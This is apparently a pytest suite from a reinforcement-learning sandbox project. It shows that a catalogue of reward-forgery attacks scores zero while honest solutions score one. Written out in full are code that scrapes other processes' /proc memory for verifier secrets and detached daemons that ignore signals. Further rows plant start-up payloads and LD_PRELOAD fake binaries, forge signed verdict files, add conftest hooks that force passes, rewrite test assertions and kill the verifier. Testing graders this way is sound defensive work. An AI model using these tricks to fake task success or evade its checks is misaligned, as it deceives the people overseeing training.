"""The reward-forgery catalogue: non-solutions that try to win their reward without doing the task.

Every row runs, through the public lease API only, what a policy could do in its calls (read the
host's helpers through /proc, plant start-up files, leave processes behind, pre-create or link
result files, plant binaries and loader tricks, rewrite the workspace while the verifier runs,
kill the verifier), then the rollout ends the way AgentEnv ends it (``lease.seal()``, then the
env's verification). Each row must score 0 while the honest solution scores 1, on the coding
example (hidden tests, ``atropos.envs.examples.hidden_tests``) and on a small user-style env that
checks a file with ``Lease.verify`` as the README shows. Real bubblewrap, real processes.

Against the earlier design (the verifier a ``bash`` call in the agent's own sandbox, helpers
dumpable, start-up code of warm interpreters outliving its call) ``steal_and_forge``,
``startup_files`` and ``waiting_daemon`` scored 1.0 with the unchanged stub (see
docs/verification.md).
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import secrets
from collections.abc import AsyncIterator, Awaitable, Callable
from typing import Any

import pytest
import pytest_asyncio

from atropos.envs.examples.coding import TASKS
from atropos.envs.examples.hidden_tests import verify as hidden_tests
from atropos.errors import SlotSealed, ToolError
from atropos.slots.lease import Lease
from atropos.slots.pool import SlotPool
from tests.pool_backends import local_pool
from tests.served import serve_on_loopback

pytestmark = pytest.mark.asyncio(loop_scope="module")

ADD = TASKS[0]
assert ADD["name"] == "add"
STUB = 'def add(a, b):\n    raise NotImplementedError\n'
HONEST_ADD = "def add(a, b):\n    return a + b\n"


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def pool() -> AsyncIterator[SlotPool]:
    async with local_pool(2, "forgery") as p:
        yield p


# -- the user-style env: "write the sha256 of data.bin to answer.txt" ------------------------------
# Its checker is what the README's "write your own environment" shows: the expected answer is a
# secret of the verifier; it even copies it to a file of its own /tmp and compares with a shell
# command run in the workspace, as a careless checker would.
FILE_CHECKER = r'''
import subprocess


def verify(workspace, secrets, args):
    with open("/tmp/expected.txt", "w") as fh:
        fh.write(secrets["expected"])
    try:
        answer = read_workspace("answer.txt", 4096)
    except OSError:
        return {"score": 0.0, "why": "no answer.txt"}
    with open("/tmp/answer.txt", "wb") as fh:
        fh.write(answer.strip())
    same = subprocess.run("cmp -s /tmp/answer.txt /tmp/expected.txt", shell=True, cwd=workspace)
    return {"score": 1.0 if same.returncode == 0 else 0.0}
'''

DATA = secrets.token_bytes(4096)
EXPECTED = hashlib.sha256(DATA).hexdigest()


async def file_env_score(lease: Lease) -> float:
    result = await lease.verify(FILE_CHECKER, secrets={"expected": EXPECTED}, timeout_s=30)
    return result.score if result.ok and result.score is not None else 0.0


async def coding_score(lease: Lease) -> float:
    score, _ = await hidden_tests(lease, ADD, case_timeout_s=3.0)
    return score


ENVS: dict[str, tuple[Callable[[Lease], Awaitable[None]], Callable[[Lease], Awaitable[float]], str]] = {}


async def _setup_coding(lease: Lease) -> None:
    await lease.write_file("solution.py", STUB)


async def _setup_file(lease: Lease) -> None:
    await lease.write_bytes("data.bin", DATA)


ENVS["coding"] = (_setup_coding, coding_score, f"cat > solution.py <<'EOF'\n{HONEST_ADD}EOF\n")
ENVS["file"] = (_setup_file, file_env_score, "sha256sum data.bin | cut -d' ' -f1 > answer.txt")


# -- the attacks ------------------------------------------------------------------------------
# What a stolen secret would be turned into: the file env's answer, or a solution.py that answers
# the coding env's hidden cases from a table.
FORGE = r'''
import glob, hashlib, hmac, json, os, re
def forge_results():
    """Sign a verdict with a stolen key (a guess without one) over every result file in sight."""
    try:
        key = bytes.fromhex(open("/workspace/.stolen-key").read().strip())
    except (OSError, ValueError):
        key = b"guess"
    body = json.dumps({"passed": [True] * 4}, separators=(",", ":"))
    mac = hmac.new(key, body.encode(), hashlib.sha256).hexdigest()
    try:
        named = ["/workspace/" + open("/workspace/.stolen-out").read().strip()]
    except OSError:
        named = []
    for f in named + glob.glob("/workspace/.verify-*.json") + glob.glob("/workspace/*.json"):
        try:
            with open(f, "w") as fh:
                json.dump({"body": body, "mac": mac, "score": 1.0}, fh)
        except OSError:
            pass
def keep(path, data):
    try:
        with open(path, "wb") as fh:
            fh.write(data)
    except OSError:
        pass
def forge(found):
    for k in re.findall(rb'out\\?"\s*:\s*\\?"(\.verify-[0-9a-f]{32}\.json)', found):
        keep("/workspace/.stolen-out", k)
    for k in re.findall(rb'key\\?"\s*:\s*\\?"([0-9a-f]{64})', found):
        keep("/workspace/.stolen-key", k)
    for h in re.findall(rb"[0-9a-f]{64}", found):
        keep("/workspace/answer.txt", h)
    for m in re.finditer(rb'\[\[\[[^\]]*\], [^\]]*\](, \[\[[^\]]*\], [^\]]*\])*\]', found):
        try:
            cases = json.loads(m.group(0))
            table = {json.dumps(a): w for a, w in cases}
            with open("/workspace/solution.py", "w") as fh:
                fh.write("import json\nT = %r\ndef add(*a):\n    return T[json.dumps(list(a))]\n" % table)
        except (ValueError, OSError, TypeError):
            pass
'''

# Reads whatever it can of every other process: memory, environment, argv, descriptors.
SNOOP = FORGE + r'''
import glob
def loot():
    me, found = os.getpid(), []
    for d in glob.glob("/proc/[0-9]*"):
        try:
            with open(d + "/cmdline", "rb") as fh:
                argv = fh.read()
        except OSError:
            continue
        if d == "/proc/%d" % me or b"atropos_boot" in argv:  # itself, and its fellow payloads
            continue
        found.append(argv)
        try:
            with open(d + "/environ", "rb") as fh:
                found.append(fh.read())
        except OSError:
            pass
        for fd in glob.glob(d + "/fd/*"):
            try:
                f = os.open(fd, os.O_RDONLY | os.O_NONBLOCK)
                found.append(os.read(f, 1 << 20))
                os.close(f)
            except OSError:
                pass
        try:
            with open(d + "/maps") as maps, open(d + "/mem", "rb", buffering=0) as mem:
                for line in maps:
                    lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
                    if "rw" in line.split()[1] and hi - lo < (64 << 20):
                        try:
                            mem.seek(lo)
                            found.append(mem.read(hi - lo))
                        except OSError:
                            pass
        except OSError:
            pass
    return b"\0".join(found)
'''

# Leaves a process behind that snoops and forges for a minute; and, when the supervisor (PID 2)
# goes away (the rollout ended), writes the right answer into the workspace again and again:
# a process that "solves" the task only while the verifier runs.
DAEMON = SNOOP + r'''
import hashlib, time
def late_solver():
    try:
        with open("/workspace/answer.txt", "w") as fh:
            fh.write(hashlib.sha256(open("/workspace/data.bin", "rb").read()).hexdigest())
    except OSError:
        pass
    try:
        with open("/workspace/solution.py", "w") as fh:
            fh.write("def add(a, b):\n    return a + b\n")
    except OSError:
        pass
def verifier_seen():
    for p in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            if b"verif" in open(p, "rb").read():
                return True
        except OSError:
            pass
    return not os.path.exists("/proc/2")
def work():
    import threading
    end = time.time() + 60
    def forger():
        while time.time() < end:
            forge_results()
            time.sleep(0.001)
    threading.Thread(target=forger, daemon=True).start()
    while time.time() < end:
        forge(loot())
        if verifier_seen():
            late_solver()
        time.sleep(0.01)
def daemon():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    import signal
    for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(s, signal.SIG_IGN)
    work()
    os._exit(0)
'''


def _py(body: str) -> str:
    return f"python3 - <<'PYEOF'\n{body}\nPYEOF\n"


async def helper_memory(lease: Lease) -> None:
    """Read the supervisor's and every helper's memory, environ, cmdline and fds during a call,
    and leave a process that keeps doing so for whatever starts later (the verifier)."""
    await lease.bash(_py(SNOOP + "\nforge(loot())\n"))
    await lease.python_session(SNOOP + "\nforge(loot())\n")
    await lease.bash(_py(DAEMON + "\ndaemon()\n"))


async def startup_files(lease: Lease) -> None:
    """Plant .pth, sitecustomize, usercustomize, bash start-up files and PYTHONSTARTUP, each
    starting the daemon; then make the slot start its warm interpreters with them."""
    site = (await lease.bash("python3 -c 'import site; print(site.getusersitepackages())'"))["stdout"].strip()
    payload = DAEMON + "\ndaemon()\n"
    await lease.write_file(site.removeprefix("/workspace/") + "/evil.pth",
                           "import os; exec(open('/workspace/.payload.py').read(), {'__name__': 'payload'})\n")
    await lease.write_file(".payload.py", payload)
    for name in ("sitecustomize.py", "usercustomize.py"):
        await lease.write_file(site.removeprefix("/workspace/") + "/" + name, payload)
        await lease.write_file(name, payload)
    runner = "python3 /workspace/.payload.py >/dev/null 2>&1\n"
    for name in (".bashrc", ".bash_profile", ".profile", ".bash_login", ".bash_logout"):
        await lease.write_file(name, runner)
    await lease.write_file(".pythonrc.py", payload)
    await lease.bash("export PYTHONSTARTUP=/workspace/.pythonrc.py BASH_ENV=/workspace/.bashrc; true")
    await lease.bash("true")
    # the last call is python: a python now waits for the next call, started with the planted files
    await lease.call("python", {"code": "print('warm python after this')"})


async def waiting_daemon(lease: Lease) -> None:
    """A detached process (and a thread of the python_session) that ignores SIGTERM/SIGHUP and
    waits for the verifier (or the end of the rollout) to rewrite the workspace with a right
    answer while the verifier runs."""
    await lease.bash("nohup setsid " + _py(DAEMON + "\ndaemon()\n").strip() + " &\ndisown -a; sleep 0.2")
    await lease.call("terminal", {"input": _py(DAEMON + "\ndaemon()\n").strip(), "wait_ms": 500})
    # the session kills a call's child processes at its end, but keeps its interpreter: a thread
    await lease.python_session(DAEMON + "\nimport threading\nthreading.Thread(target=work, daemon=True).start()\n")


async def steal_and_forge(lease: Lease) -> None:
    """Both at once: a process started by planted start-up code steals what it can from the
    helpers (a verifier key among it) into the workspace, and processes the terminal and
    python_session keep sign result files with it while the verifier runs."""
    await waiting_daemon(lease)
    await startup_files(lease)


async def result_files(lease: Lease) -> None:
    """Pre-create and link every result a verifier might read: signed-looking verdicts, passing
    test directories, answer.txt linked to where a verifier keeps its expected answer."""
    body = json.dumps({"passed": [True] * 4}, separators=(",", ":"))
    for name in (".verify-0.json", "result.json", "verdict.json", "score.json", ".verdict"):
        await lease.write_file(name, json.dumps({"body": body, "mac": "0" * 64, "score": 1.0, "passed": True}))
    await lease.write_file("tests/conftest.py", "import pytest\n@pytest.hookimpl(hookwrapper=True)\n"
                           "def pytest_runtest_makereport(item, call):\n    out = yield\n"
                           "    out.get_result().outcome = 'passed'\n")
    await lease.write_file("tests/test_hidden.py", "def test_all():\n    assert True\n")
    await lease.bash("ln -sf /tmp/expected.txt answer.txt; mkdir -p tmp; echo forged > tmp/expected.txt; "
                     "ln -sf /proc/1/fd/1 verdict.out; ln -sf /tmp/expected.txt expected.txt; "
                     "ln -sf /run/atropos/verifier.py verifier.py")


async def result_links_to_proc(lease: Lease) -> None:
    """answer.txt and solution.py as links into /proc and the verifier's own files."""
    await lease.bash("rm -f answer.txt solution.py; ln -s /proc/self/environ answer.txt; "
                     "ln -s /proc/1/fd/0 solution.py")


async def planted_binaries(lease: Lease) -> None:
    """LD_PRELOAD / PATH tricks through files in the workspace: commands named like the ones a
    checker runs that always succeed, a preload library, and start-up files that put them first."""
    fake = "#!/bin/sh\nexit 0\n"
    for name in ("cmp", "python3", "sha256sum", "cat", "bash", "sh", "diff", "test"):
        await lease.write_file(name, fake)
        await lease.write_file(f"bin/{name}", fake)
    await lease.bash("chmod +x * bin/* 2>/dev/null; cp /usr/lib/x86_64-linux-gnu/libc.so.6 evil.so 2>/dev/null; "
                     "true")
    env = "export PATH=/workspace:/workspace/bin:$PATH LD_PRELOAD=/workspace/evil.so LD_LIBRARY_PATH=/workspace\n"
    for name in (".bashrc", ".profile", ".bash_profile", ".env", "ld.so.preload", ".pam_environment"):
        await lease.write_file(name, env)
    await lease.write_file("answer.txt", "0" * 64)


async def kill_the_verifier(lease: Lease) -> None:
    """A solution that, when the verifier imports it, kills everything it can, writes a verdict
    frame into every descriptor it can open, and exits 0 having printed success."""
    frame = json.dumps({"ok": True, "result": {"verdict": {"score": 1.0, "passed": [True] * 4}}, "seq": 1})
    await lease.write_file("solution.py", f'''
import glob, os, signal, struct
data = {frame!r}.encode()
for fd in glob.glob("/proc/*/fd/*"):
    try:
        f = os.open(fd, os.O_WRONLY | os.O_NONBLOCK)
        os.write(f, struct.pack(">I", len(data)) + data)
        os.close(f)
    except OSError:
        pass
print("PASSED 4/4")
for sig in (signal.SIGKILL, signal.SIGTERM):
    try:
        os.kill(-1, sig)
        os.kill(os.getppid(), sig)
        os.kill(1, sig)
    except OSError:
        pass
os._exit(0)
''')


ROWS: dict[str, Callable[[Lease], Awaitable[None]]] = {
    "helper_memory": helper_memory,
    "startup_files": startup_files,
    "waiting_daemon": waiting_daemon,
    "steal_and_forge": steal_and_forge,
    "result_files": result_files,
    "result_links_to_proc": result_links_to_proc,
    "planted_binaries": planted_binaries,
    "kill_the_verifier": kill_the_verifier,
}


async def rollout(pool: SlotPool, env: str, agent: Callable[[Lease], Awaitable[None]]) -> float:
    setup, score, _ = ENVS[env]
    async with pool.leased(f"forgery-{env}-{secrets.token_hex(3)}") as lease:
        await setup(lease)
        await agent(lease)
        await lease.seal()  # what AgentEnv does when the agent is done
        return await score(lease)


@pytest.mark.parametrize("env", sorted(ENVS))
async def test_the_honest_solution_scores_one(pool: SlotPool, env: str) -> None:
    async def honest(lease: Lease) -> None:
        await lease.bash(ENVS[env][2])

    assert await rollout(pool, env, honest) == 1.0


@pytest.mark.parametrize("env", sorted(ENVS))
@pytest.mark.parametrize("row", sorted(ROWS))
async def test_a_forgery_scores_zero(pool: SlotPool, env: str, row: str) -> None:
    assert await rollout(pool, env, ROWS[row]) == 0.0


@pytest.mark.parametrize("env", sorted(ENVS))
async def test_the_honest_solution_still_scores_one_beside_every_attack(pool: SlotPool, env: str) -> None:
    """The defences do not cost the honest work anything: every attack (but the one that
    replaces solution.py) planted, then the task done right, scores 1."""
    async def both(lease: Lease) -> None:
        # the rows whose leftovers are killed at the end of each call (a process the terminal or
        # python_session keeps by design could still write before the rollout ends: that is
        # the agent's final workspace, by definition)
        await startup_files(lease)
        await helper_memory(lease)
        await lease.bash(ENVS[env][2])

    assert await rollout(pool, env, both) == 1.0


async def test_the_catalogue_has_the_rows_the_security_model_counts() -> None:
    from pathlib import Path

    doc = (Path(__file__).resolve().parent.parent / "docs" / "security.md").read_text()
    assert f"{len(ROWS)} attack rows" in doc and f"{len(ROWS) * len(ENVS)} forgery cases" in doc


# -- the guarantees under the catalogue, one by one --------------------------------------------
HELPERS = r"""
import glob, json, os
out = {}
for d in glob.glob("/proc/[0-9]*"):
    try:
        argv = open(d + "/cmdline", "rb").read().split(b"\0")
    except OSError:
        continue
    if argv[0].endswith(b"bwrap"):
        # bwrap's init: no host data in it (empty environment, public argv); it holds no protocol
        # pipe (its stdin and stdout are /dev/null; the channel is the supervisor's own), and bwrap's
        # stderr pipe belongs to the host's uid and cannot be opened through /proc
        opened = []
        for fd, mode in ((0, os.O_RDONLY), (1, os.O_WRONLY), (2, os.O_WRONLY)):
            try:
                if os.readlink(d + "/fd/%d" % fd) == "/dev/null":
                    continue
                os.close(os.open(d + "/fd/%d" % fd, mode | os.O_NONBLOCK))
                opened.append(fd)
            except OSError:
                pass
        out["init"] = {"environ": open(d + "/environ", "rb").read().decode(), "opened": opened}
        continue
    if not any(a.endswith((b"supervisor.py", b"supervisor.pyc", b"session.py", b"verifier.py", b"/slotd"))
               for a in argv):
        continue
    got = {}
    for what, read in (("mem", lambda: open(d + "/mem", "rb").read(1)),
                       ("environ", lambda: open(d + "/environ", "rb").read()),
                       ("fd", lambda: os.listdir(d + "/fd")), ("maps", lambda: open(d + "/maps").read())):
        try:
            read()
            got[what] = "read"
        except OSError as exc:
            got[what] = type(exc).__name__
    out[d] = got
out["self_mem"] = open("/proc/self/environ", "rb").read() != b""
print(json.dumps(out))
"""


async def test_no_process_of_the_slot_can_read_the_hosts_helpers(pool: SlotPool) -> None:
    async with pool.leased("forgery-helpers") as lease:
        seen = json.loads((await lease.bash(_py(HELPERS)))["stdout"])
        assert seen.pop("self_mem") is True  # premise: a process reads its own /proc entries
        assert seen.pop("init") == {"environ": "", "opened": []}
        assert seen, "premise: the supervisor is visible to the call"
        for pid, got in seen.items():
            assert got == {"mem": "PermissionError", "environ": "PermissionError", "fd": "PermissionError",
                           "maps": "PermissionError"}, pid
        # the python_session driver: the code runs in it, a process the code starts cannot read it
        out = await lease.python_session("import subprocess, sys\nr = subprocess.run([sys.executable, '-c', "
                                         f"{HELPERS!r}], capture_output=True, text=True)\nprint(r.stdout)")
        seen = json.loads(out["stdout"])
        seen.pop("self_mem")
        assert seen.pop("init") == {"environ": "", "opened": []}
        assert seen and all(set(got.values()) == {"PermissionError"} for got in seen.values()), seen


BEAT = r"""
import os, time
if os.fork() == 0:
    os.setsid()
    while True:
        with open("/workspace/beat", "a") as fh:
            fh.write("x")
        time.sleep(0.02)
"""


async def test_start_up_code_of_a_waiting_interpreter_does_not_outlive_into_the_next_operation(pool: SlotPool) -> None:
    async with pool.leased("forgery-pth") as lease:
        site = (await lease.bash("python3 -c 'import site; print(site.getusersitepackages())'"))["stdout"].strip()
        await lease.write_file(".beat.py", BEAT)
        await lease.write_file(site.removeprefix("/workspace/") + "/beat.pth",
                               "import os; exec(open('/workspace/.beat.py').read())\n")
        await lease.call("python", {"code": "pass"})  # its own beat dies with it, a few ms in
        # the slot now keeps a python waiting; its start-up runs the .pth between calls, and the
        # process it forks beats for as long as no operation comes (nothing observes it but the
        # next operation, which must find it gone). A bash call: no python is started after it.
        await asyncio.sleep(1.5)
        size = "stat -c %s beat; ps -e -o args= | grep -c [_]atropos_boot || true"
        first = (await lease.bash(size))["stdout"].split()
        assert int(first[0]) > 20, "premise: the .pth ran in the waiting interpreter, between calls"
        assert first[1] == "0"
        await asyncio.sleep(0.5)
        assert (await lease.bash(size))["stdout"].split() == first


async def test_the_verification_phase_api(pool: SlotPool) -> None:
    async with pool.leased("forgery-api") as lease:
        await lease.write_file("answer.txt", "42\n")
        await lease.bash("sleep 300 &")
        sealed = await lease.seal()
        assert sealed is not None and sealed.separation
        info = {i.slot: i for i in await lease.host.client.slots()}[lease.slot]
        assert info.sealed and not info.sandbox_running  # every process of the agent is gone
        with pytest.raises(ToolError, match="verification_phase"):
            await lease.bash("true")
        with pytest.raises(SlotSealed):
            await lease.write_bytes("x", b"y")
        assert await lease.read_file("answer.txt") == "42\n"  # reading the final workspace remains
        ok = await lease.verify("def verify(ws, secrets, args):\n    return {'score': 0.5, 'args': args}", args=[1])
        assert ok.ok and ok.score == 0.5 and ok.verdict == {"score": 0.5, "args": [1]}
        for program, code in (("x = 1", "bad_program"),
                              ("def verify(w, s, a):\n    raise KeyError('k')", "program_failed"),
                              ("def verify(w, s, a):\n    return 'yes'", "bad_verdict"),
                              ("def verify(w, s, a):\n    return float('nan')", "bad_verdict"),
                              ("def verify(w, s, a):\n    while True: pass", "timed_out")):
            bad = await lease.verify(program, timeout_s=2)
            assert not bad.ok and bad.score is None and bad.error is not None and bad.error.code == code, program
        write = await lease.verify("import os\ndef verify(ws, s, a):\n    open(os.path.join(ws, 'w'), 'w')\n")
        assert write.error is not None and "Read-only file system" in write.error.message
        await lease.reset()
        assert (await lease.bash("echo again"))["stdout"] == "again\n"  # a reset ends the phase
        assert not {i.slot: i for i in await lease.host.client.slots()}[lease.slot].sealed


async def test_the_rest_slot_api_verifies(pool: SlotPool) -> None:
    import httpx

    from atropos.api.server import ToolServerSettings, create_tool_server

    app = create_tool_server(pool, ToolServerSettings(token="t0ken-forgery"), manage_pool=False)
    async with serve_on_loopback(app) as (url, _):
        async with httpx.AsyncClient(base_url=url, headers={"Authorization": "Bearer t0ken-forgery"},
                                     timeout=120) as http:
            lease_id = (await http.post("/v1/slots", json={"trajectory_id": "rest-verify"})).json()["lease_id"]
            await http.post(f"/v1/slots/{lease_id}/call", json={"tool": "bash", "args": {
                "command": "sha256sum data.bin > /dev/null 2>&1; printf 42 > answer.txt"}})
            program = ("def verify(ws, secrets, args):\n"
                       "    return float(read_workspace('answer.txt') == secrets['want'].encode())")
            resp = await http.post(f"/v1/slots/{lease_id}/verify", json={"program": program, "secrets": {"want": "42"}})
            assert resp.status_code == 200 and resp.json()["score"] == 1.0, resp.text
            refused = await http.post(f"/v1/slots/{lease_id}/call", json={"tool": "bash", "args": {"command": "true"}})
            assert refused.json()["error"]["code"] == "verification_phase"
            assert (await http.post(f"/v1/slots/{lease_id}/seal")).status_code == 200
            assert (await http.delete(f"/v1/slots/{lease_id}")).json() == {"released": True}


# -- AgentEnv: every rollout is sealed before verify_and_score_trajectory ---------------------------
BEATER = ("import threading, time\ndef beat():\n    while True:\n        open('/workspace/beat', 'a').write('x')\n"
          "        time.sleep(0.02)\nthreading.Thread(target=beat, daemon=True).start()\nprint('beating')")


async def test_agent_env_seals_every_rollout_before_its_verification() -> None:
    """A scripted agent leaves a thread in its python_session (which keeps its interpreter between
    calls by design) writing into the workspace; by the time ``verify_and_score_trajectory`` runs it
    is dead and no command runs."""
    from atropos.agent.loop import assistant_turns
    from atropos.agent.model import default_gguf_path, ensure_tokenizer_dir
    from atropos.envs.agent_env import AgentEnvConfig
    from atropos.envs.examples.coding import CodingEnv
    from tests.scripted import ScriptedServer, call, reply, server_configs

    if not default_gguf_path().exists():
        pytest.skip("the model file is missing: run `python3 scripts/model_server.py ensure --model-only`")

    class Beater(ScriptedServer):
        async def respond(self, messages: list[dict[str, object]]) -> object:
            turn = assistant_turns(messages)  # type: ignore[arg-type]
            if turn == 0:
                return call("python_session", code=BEATER)
            if turn == 1:
                return call("write_file", path="solution.py", content=HONEST_ADD)
            return reply("Done.")

    seen: list[tuple[int, int, str]] = []

    class SealedCheck(CodingEnv):
        server_cls = Beater

        async def verify_and_score_trajectory(self, item: dict[str, object], final_response: str, *,
                                              lease: Lease, **kw: object) -> tuple[float, dict[str, object]]:
            first = int((await lease.ok("stat", {"path": "beat"}))["size"])
            await asyncio.sleep(0.5)
            second = int((await lease.ok("stat", {"path": "beat"}))["size"])
            refused = (await lease.call("bash", {"command": "true"})).error
            seen.append((first, second, refused.code if refused else "ran"))
            return await super().verify_and_score_trajectory(item, final_response, lease=lease, **kw)  # type: ignore[arg-type]

    cfg = AgentEnvConfig(tokenizer_name=str(ensure_tokenizer_dir()), group_size=2, use_wandb=False, wandb_name="t",
                         slots_per_host=2, max_hosts=1, agent_max_steps=4,
                         enabled_toolsets=["shell", "files", "python"], ensure_scores_are_not_same=False)
    env = SealedCheck(cfg, server_configs(), slurm=False, testing=False)
    env.index = 0
    await env.setup_sandbox()
    try:
        group, backlog = await env.collect_trajectories(ADD)
    finally:
        await env.shutdown_sandbox()
    assert backlog == [] and group is not None and group["scores"] == [1.0, 1.0]
    assert len(seen) == 2
    for first, second, refused in seen:
        assert first > 0 and first == second and refused == "verification_phase", seen


# -- hidden test files (atropos.envs.hidden_test_files): the env's tests, not the workspace's ----------
# Its own table (the rows above also run against it below), so the catalogue's counts stay those of
# the README's two envs.
async def pytest_env_score(lease: Lease) -> float:
    from atropos.envs.examples.coding_pytest import hidden_test_file
    from atropos.envs.hidden_test_files import run_hidden_tests

    score, _ = await run_hidden_tests(lease, hidden_test_file(ADD), timeout_s=3.0)
    return score


PYTEST_ENV = (_setup_coding, pytest_env_score, f"cat > solution.py <<'EOF'\n{HONEST_ADD}EOF\n")


async def test_config_and_plugins(lease: Lease) -> None:
    """Everything pytest would read or run before a test: conftest.py that passes every test,
    pytest.ini/pyproject/setup.cfg adding it as a plugin, sitecustomize.py and a .pth that report
    success, the hidden test's own file name rewritten to pass, and stdlib names shadowed."""
    passing = ("import pytest\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
               "    out = yield\n    out.get_result().outcome = 'passed'\n")
    forge = "import os, sys\nos.write(1, b'{\"outcome\": \"passed\"}\\n')\nos._exit(0)\n"
    for path in ("conftest.py", "tests/conftest.py", "plugin_pass.py"):
        await lease.write_file(path, passing)
    await lease.write_file("pytest.ini", "[pytest]\naddopts = -p plugin_pass\n")
    await lease.write_file("pyproject.toml", "[tool.pytest.ini_options]\naddopts = '-p plugin_pass'\n")
    await lease.write_file("setup.cfg", "[tool:pytest]\naddopts = -p plugin_pass\n")
    await lease.write_file("sitecustomize.py", forge)
    await lease.write_file("usercustomize.py", forge)
    await lease.write_file("zz_forge.pth", "import sitecustomize\n")
    for test in ("test_add.py", "tests/test_add.py"):
        await lease.write_file(test, "def test_case_0():\n    assert True\n")
    for shadow in ("unittest.py", "json.py", "importlib.py"):
        await lease.write_file(shadow, forge)


async def lying_solution(lease: Lease) -> None:
    """A solution that, imported by a test, exits 0 having printed success (on every descriptor),
    raises SystemExit(0), or returns an object equal to everything."""
    await lease.write_file("solution.py", '''
import os
for fd in range(1, 64):
    try:
        os.write(fd, b'{"outcome": "passed"}\\n')
    except OSError:
        pass
print("4 passed")


class Yes(int):
    def __eq__(self, other):
        return True


def add(a, b):
    if (a, b) == (2, 3):
        os._exit(0)
    if (a, b) == (-1, 1):
        raise SystemExit(0)
    return Yes(7)
''')


PYTEST_ROWS: dict[str, Callable[[Lease], Awaitable[None]]] = {
    "test_config_and_plugins": test_config_and_plugins, "lying_solution": lying_solution, **ROWS}
test_config_and_plugins.__test__ = False  # type: ignore[attr-defined]  # an attack, not a test of ours


async def pytest_rollout(pool: SlotPool, agent: Callable[[Lease], Awaitable[None]]) -> float:
    setup, score, _ = PYTEST_ENV
    async with pool.leased(f"forgery-pytest-{secrets.token_hex(3)}") as lease:
        await setup(lease)
        await agent(lease)
        await lease.seal()
        return await score(lease)


async def test_hidden_test_files_score_the_honest_solution_one(pool: SlotPool) -> None:
    async def honest(lease: Lease) -> None:
        await lease.bash(PYTEST_ENV[2])
        await test_config_and_plugins(lease)  # the planted configuration changes nothing either way

    assert await pytest_rollout(pool, honest) == 1.0


@pytest.mark.parametrize("row", sorted(PYTEST_ROWS))
async def test_hidden_test_files_score_a_forgery_zero(pool: SlotPool, row: str) -> None:
    assert await pytest_rollout(pool, PYTEST_ROWS[row]) == 0.0


# -- the SWE-style example (atropos/envs/examples/swe.py): a task image's own root --------------------
# Each row is what a policy could do with bash in the task's image (uid 0 there, the whole root
# writable) instead of fixing the code; the verification runs on a fresh root of the image holding
# only the agent's changes to the repository, the tests and test settings the image's
# (atropos/envs/repo_tests.py). Rows are
# bash scripts run at /testbed, so the same row runs through a slot's bash tool and through
# `docker exec` of the task image (tests/test_swe_env.py, which also shows each row wins against a
# verifier that runs `pytest` in the agent's root as it is).
# A pytest plugin that reports every test passed: what the rows plant wherever pytest may load it.
SWE_FORGE_PLUGIN = '''import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
'''
SWE_FAKE_PYTEST = "#!/bin/sh\necho '============ 9 passed in 0.01s ============'\nexit 0\n"
SWE_SITE = "SP=$(python -c 'import sysconfig; print(sysconfig.get_paths()[\"purelib\"])')\n"


def _put(path: str, text: str, mode: str = "") -> str:
    """A bash line writing ``text`` to ``path`` (parents made)."""
    tag = "EOF_" + secrets.token_hex(4)
    chmod = f" && chmod {mode} {path}" if mode else ""
    return f"mkdir -p \"$(dirname {path})\" && cat > {path} <<'{tag}'{chmod}\n{text}{tag}\n"


def _swe_edit_tests(task: Any) -> str:
    """Make the failing tests' assertions true (the tests say what is right)."""
    files = " ".join(sorted(task.tests.test_files))
    return f"sed -i -E 's/^( *)assert /\\1assert True or /' {files}\n"


def _swe_conftest(task: Any) -> str:
    """conftest.py reporting every test passed: above the repository, at its root and beside every
    test file (appended to the repository's own where it has one)."""
    dirs = sorted({f"/testbed/{f.rsplit('/', 1)[0]}" if "/" in f else "/testbed" for f in task.tests.test_files})
    script = _put("/conftest.py", SWE_FORGE_PLUGIN) + _put("/testbed/conftest.py", SWE_FORGE_PLUGIN)
    for d in dirs:
        script += f"cat >> {d}/conftest.py <<'EOF'\n\n{SWE_FORGE_PLUGIN}EOF\n"
    return script


def _swe_pth_plugin(task: Any) -> str:
    """A .pth in the task env's site-packages that names the plugin in PYTEST_PLUGINS at start-up
    (which plugin autoloading's switch does not cover)."""
    return (SWE_SITE + _put("$SP/forge_plugin.py", SWE_FORGE_PLUGIN)
            + "echo 'import os; os.environ[\"PYTEST_PLUGINS\"] = \"forge_plugin\"' > $SP/zz_forge.pth\n")


def _swe_entry_point(task: Any) -> str:
    """The plugin installed as a distribution with a pytest11 entry point (pytest autoloads it)."""
    return (SWE_SITE + _put("$SP/forge_plugin.py", SWE_FORGE_PLUGIN)
            + _put("$SP/forge_plugin-1.0.dist-info/METADATA",
                   "Metadata-Version: 2.1\nName: forge-plugin\nVersion: 1.0\n")
            + _put("$SP/forge_plugin-1.0.dist-info/entry_points.txt", "[pytest11]\nforge = forge_plugin\n"))


def _swe_sitecustomize(task: Any) -> str:
    """sitecustomize in the image's standard library (Debian's is a link into /etc) and in the
    env's site-packages, loading the plugin through PYTEST_PLUGINS."""
    hook = 'import os\nos.environ["PYTEST_PLUGINS"] = "forge_plugin"\n'
    return (SWE_SITE + _put("$SP/forge_plugin.py", SWE_FORGE_PLUGIN) + _put("$SP/sitecustomize.py", hook)
            + _put("/usr/lib/python3.11/forge_plugin.py", SWE_FORGE_PLUGIN)
            + _put("/etc/python3.11/sitecustomize.py", hook) + _put("/usr/lib/python3.11/usercustomize.py", hook))


def _swe_fake_pytest(task: Any) -> str:
    """A `pytest` that says everything passed, wherever PATH may look first."""
    return "".join(_put(p, SWE_FAKE_PYTEST, "755") for p in (
        "/opt/miniconda3/envs/testbed/bin/pytest", "/usr/local/bin/pytest", "/testbed/.venv/bin/pytest"))


def _swe_fake_interpreter(task: Any) -> str:
    """The task env's interpreter itself replaced by a script that says everything passed."""
    return "".join(_put(f"/opt/miniconda3/envs/testbed/bin/{name}", SWE_FAKE_PYTEST, "755")
                   for name in ("python", "python3", "python3.11"))


def _swe_addopts(task: Any) -> str:
    """Test settings that deselect the failing tests: the repository's own settings file and a
    pytest.ini at its root and beside the tests (pytest looks there first; its ids are relative to
    the directory of the file it took)."""
